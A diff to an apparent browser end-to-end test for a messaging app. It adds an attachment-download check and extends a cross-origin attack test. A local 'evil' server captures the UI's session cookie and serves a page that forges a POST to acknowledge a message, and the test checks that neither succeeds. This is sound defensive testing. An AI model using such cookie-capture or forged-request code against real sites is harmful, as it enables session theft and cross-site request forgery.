@@ -132,6 +132,9 @@ try {
 	check((await recipient.$$('article img, h1 img')).length === 0, 'no element was made from the subject');
 	check(dialogs.length === 0, 'no script from the cable ran (no dialog)', dialogs.join(';'));
 	check((await recipient.textContent('article.cable')).includes('houkoku-20261207.txt'), 'the attachment is listed by name');
+	const [dl] = await Promise.all([recipient.waitForEvent('download'), recipient.click('button:has-text("Save houkoku-20261207.txt")')]);
+	check(readFileSync(await dl.path(), 'utf8') === '添付ファイル\n' && dl.suggestedFilename() === 'houkoku-20261207.txt',
+		'the attachment downloads with its name and bytes', dl.suggestedFilename());
 	await audit(recipient, 'a cable');
 	await shot(recipient, 'read');
 	// an injected inline script is blocked by the Content-Security-Policy
@@ -147,16 +150,30 @@ try {
 	// ---- another origin cannot make the UI act (the cookie is SameSite=Strict, Origin is checked) ----
 	const cableId = (recipient.url().match(/read\/([0-9a-f]{32})/) || [])[1];
 	const evilPort = Number(env('EVIL_PORT'));
+	// (it is on 127.0.0.1 too: the browser sends it the UI's cookie, which cookies' rules do not
+	// keep to one port; the cookie alone must open nothing)
+	let caught = '';
 	const evil = http.createServer((req, res) => {
+		if (req.url === '/f') {
+			caught = req.headers.cookie || '';
+			res.end('');
+			return;
+		}
 		res.setHeader('Content-Type', 'text/html');
 		res.end(`<!doctype html><title>x</title><form id=f method=POST action="${origin(RECIPIENT_URL)}/api/cables/${cableId}/ack"></form>` +
-			`<script>fetch("${origin(RECIPIENT_URL)}/api/cables/${cableId}/ack",{method:"POST",credentials:"include",mode:"no-cors"}).finally(()=>document.getElementById("f").submit())</script>`);
+			`<script>fetch("/f").then(()=>fetch("${origin(RECIPIENT_URL)}/api/cables/${cableId}/ack",{method:"POST",credentials:"include",mode:"no-cors"})).finally(()=>document.getElementById("f").submit())</script>`);
 	}).listen(evilPort, '127.0.0.1');
 	const evilPage = await rctx.newPage();
 	await evilPage.goto(`http://127.0.0.1:${evilPort}/`);
 	await evilPage.waitForTimeout(1000);
 	evil.close();
-	const still = await recipient.evaluate(async (id) => (await (await fetch('/api/inbox')).json()).cables.some((c) => c.cable_id === id), cableId);
+	if (check(/denpo_ui=[0-9a-f]{64}/.test(caught), 'a server on another port of 127.0.0.1 does get the UI\'s cookie (cookies ignore ports)', caught)) {
+		const u = new URL(RECIPIENT_URL);
+		const st = await new Promise((resolve) => http.get({ host: '127.0.0.1', port: u.port, path: '/api/inbox',
+			headers: { Cookie: caught, Host: u.host } }, (r) => { r.resume(); resolve(r.statusCode); }).on('error', () => resolve(0)));
+		check(st === 401, 'the caught cookie alone opens nothing in the API', st);
+	}
+	const still = await recipient.evaluate(async (id) => (await (await fetch('/api/inbox', { headers: { 'X-Denpo-Key': sessionStorage.getItem('denpo_key') } })).json()).cables.some((c) => c.cable_id === id), cableId);
 	check(still, 'a page of another origin could not acknowledge the cable');
 
 	// ---- acknowledges; the sender sees the receipt ----
